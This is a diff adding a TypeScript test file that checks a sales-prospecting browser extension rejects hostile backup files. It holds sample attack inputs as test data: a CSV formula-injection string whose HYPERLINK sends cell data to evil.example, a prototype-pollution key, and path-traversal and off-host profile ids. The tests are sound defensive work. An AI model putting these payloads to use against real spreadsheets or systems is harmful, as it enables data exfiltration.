@@ -1,0 +1,140 @@
+// A hostile backup forges nothing: settings are checked one by one (a bad value keeps the
+// current one, keepReplyText is never turned on by a restore), and prospect ids that could point
+// off LinkedIn are refused, and never exported as another site's address.
+import 'fake-indexeddb/auto';
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { createActivity } from '../../src/background/activity';
+import { createBackup } from '../../src/background/backup';
+import { createDbHandle } from '../../src/background/db';
+import { readSettings, updateSettings } from '../../src/background/settings';
+import { restoredSettings } from '../../src/shared/backup-format';
+import { DEFAULT_SETTINGS, STORE_NAMES } from '../../src/shared/contract';
+import { profileUrl, PROFILE_ID } from '../../src/shared/profile-ids';
+
+let n = 0;
+async function setup() {
+  const db = createDbHandle(`nurture-backup-hostile-${++n}`);
+  const now = () => Date.UTC(2026, 10, 22);
+  await updateSettings(await db(), { repId: 'ana', csvSeparator: ';', quietMode: true, feedSyncMinutes: 720 });
+  return { db, backup: createBackup({ db, now }), activity: createActivity({ db, now }) };
+}
+
+const backupOf = (stores: Partial<Record<(typeof STORE_NAMES)[number], unknown[]>>) =>
+  JSON.stringify({
+    nurture: 'backup',
+    schemaVersion: 1,
+    exportedAt: 0,
+    stores: { content: [], sources: [], prospects: [], interactions: [], settings: [], ...stores },
+  });
+
+const FORMULA_SEPARATOR = ',=HYPERLINK("https://evil.example/?"&A1,"x"),';
+
+const prospect = (id: string) => ({ id, name: 'Eve', headline: '', company: '', persona: '', stage: 'awareness', tags: [], notes: '', nextFollowUp: null, createdAt: 1, lastContactAt: null, lastReplyAt: null });
+const interaction = (prospectId: string | null) => ({ id: 1, at: 1, kind: 'note', prospectId, contentId: null, channel: 'other', url: null, externalId: null, note: 'x' });
+
+describe('restoring settings', () => {
+  for (const mode of ['merge', 'replace'] as const) {
+    it(`checks each setting on its own; a bad value keeps the current one (${mode})`, async () => {
+      const { db, backup } = await setup();
+      const value = { repId: 'bob', csvSeparator: FORMULA_SEPARATOR, quietMode: 'no', feedSyncMinutes: 0, keepReplyText: true, evil: 'x', __proto__: { csvBom: false } };
+      const { settingsKept } = await backup.import(backupOf({ settings: [{ key: 'user', value }, { key: 'other', value: { a: 1 } }] }), mode);
+      const settings = await readSettings(await db());
+      // The valid value is taken...
+      expect(settings.repId).toBe('bob');
+      // ...each refused one keeps the value the user had, and is named in the report.
+      expect(settings.csvSeparator).toBe(';');
+      expect(settings.quietMode).toBe(true);
+      expect(settings.feedSyncMinutes).toBe(720);
+      expect(settings.keepReplyText).toBe(false);
+      expect(settingsKept.sort()).toEqual(['csvSeparator', 'feedSyncMinutes', 'keepReplyText', 'quietMode']);
+      // Unknown keys and records are dropped.
+      expect(settings).not.toHaveProperty('evil');
+      expect(await (await db()).getAllKeys('settings')).toEqual(['user']);
+    });
+  }
+
+  it('never turns keepReplyText on, but may turn it off', () => {
+    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: false }, { keepReplyText: true })).toEqual({ settings: { ...DEFAULT_SETTINGS, keepReplyText: false }, kept: ['keepReplyText'] });
+    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: false })).toEqual({ settings: { ...DEFAULT_SETTINGS, keepReplyText: false }, kept: [] });
+    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: true }).settings.keepReplyText).toBe(true);
+  });
+
+  it('the CSV export keeps using the separator the user chose', async () => {
+    const { backup, activity } = await setup();
+    await backup.import(backupOf({ settings: [{ key: 'user', value: { csvSeparator: FORMULA_SEPARATOR } }] }), 'merge');
+    const { text } = await activity.exportChunk({}, null, 10);
+    expect(text).not.toContain('HYPERLINK');
+    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toContain(';');
+  });
+
+  it('only ever stores settings SettingsSchema accepts, whatever the file holds', () => {
+    const anyValue = fc.oneof(fc.string(), fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.constantFrom(',', ';', '\t', 15, 10080, 360));
+    fc.assert(
+      fc.property(fc.dictionary(fc.constantFrom(...Object.keys(DEFAULT_SETTINGS), 'evil'), anyValue), (value) => {
+        const { settings } = restoredSettings(DEFAULT_SETTINGS, value);
+        expect(Object.keys(settings).sort()).toEqual(Object.keys(DEFAULT_SETTINGS).sort());
+        expect([',', ';']).toContain(settings.csvSeparator);
+        expect(Number.isInteger(settings.feedSyncMinutes) && settings.feedSyncMinutes >= 15).toBe(true);
+        expect(typeof settings.quietMode).toBe('boolean');
+        expect(settings.keepReplyText).toBe(false);
+      }),
+    );
+  });
+});
+
+describe('prospect ids in a backup', () => {
+  const HOSTILE = ['@evil.example/x', '/in/a@evil.example', '/in/a\\..\\..\\evil', '/in/..', '/in/.', 'https://evil.example/in/x', '/in/a/b', '/in/a\u0000b', '//evil.example/in/x'];
+
+  it('a backup whose prospect or interaction id is not a profile path restores nothing', async () => {
+    for (const id of HOSTILE) {
+      const { db, backup } = await setup();
+      for (const stores of [{ prospects: [prospect(id)] }, { interactions: [interaction(id)] }]) {
+        await expect(backup.import(backupOf(stores), 'merge'), id).rejects.toThrow(/Nothing was restored: the backup is damaged.*profile path/);
+      }
+      expect(await (await db()).count('prospects')).toBe(0);
+      expect(await (await db()).count('interactions')).toBe(0);
+    }
+  });
+
+  it('ordinary ids still restore, accents included', async () => {
+    const { db, backup } = await setup();
+    await backup.import(backupOf({ prospects: [prospect('/in/josé-garcía'), prospect('/in/ACoAAB1234567890')], interactions: [interaction('/in/josé-garcía')] }), 'merge');
+    expect((await (await db()).getAllKeys('prospects')).sort()).toEqual(['/in/ACoAAB1234567890', '/in/josé-garcía']);
+  });
+
+  it('the CSV export never names a host but www.linkedin.com, even for an id written past the checks', async () => {
+    const { db, activity } = await setup();
+    const conn = await db();
+    for (const [index, id] of HOSTILE.entries()) {
+      const { id: _key, ...entry } = interaction(id);
+      await conn.add('interactions', { ...entry, at: index + 1 } as never);
+    }
+    const { text } = await activity.exportChunk({}, null, 100);
+    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ';' }).data.slice(1).filter((row) => row.length > 1);
+    expect(rows).toHaveLength(HOSTILE.length);
+    for (const row of rows) {
+      const cell = row[5] ?? '';
+      if (cell !== '') expect(new URL(cell).host).toBe('www.linkedin.com');
+    }
+    expect(text).not.toContain('evil.example/');
+  });
+
+  it('profileUrl only ever builds a www.linkedin.com/in/ address', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string(), fc.string().map((s) => `/in/${s}`), fc.constantFrom(...HOSTILE)), (id) => {
+        const url = profileUrl(id);
+        if (url === null) return;
+        const parsed = new URL(url);
+        expect(parsed.origin).toBe('https://www.linkedin.com');
+        expect(parsed.pathname).toMatch(/^\/in\/[^/]+\/$/);
+        expect(PROFILE_ID.test(id)).toBe(true);
+      }),
+      { numRuns: 500 },
+    );
+    expect(profileUrl('/in/ada')).toBe('https://www.linkedin.com/in/ada/');
+    expect(profileUrl('/in/josé')).toBe('https://www.linkedin.com/in/jos%C3%A9/');
+    for (const id of HOSTILE) expect(profileUrl(id), id).toBeNull();
+  });
+});
